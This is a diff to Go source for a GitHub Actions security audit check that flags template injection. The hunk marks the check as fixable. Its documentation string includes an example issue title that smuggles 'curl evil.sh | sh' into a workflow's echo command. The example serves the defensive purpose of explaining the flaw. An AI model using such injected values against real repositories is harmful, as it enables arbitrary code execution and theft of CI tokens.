@@ -15,6 +15,7 @@ var TemplateInjection = &audit.Check{
 	Severity:   audit.High,
 	Confidence: audit.HighConfidence,
 	Category:   audit.CategoryInjection,
+	Fixable:    true,
 	Doc: `GitHub expands ` + "`${{ }}`" + ` expressions before the shell (or Node, for ` + "`actions/github-script`" + `)
 sees the script: the value becomes part of the code. An issue titled ` + "`\"; curl evil.sh | sh; echo \"`" + `
 turns ` + "`echo \"${{ github.event.issue.title }}\"`" + ` into three commands, run with the job's token and
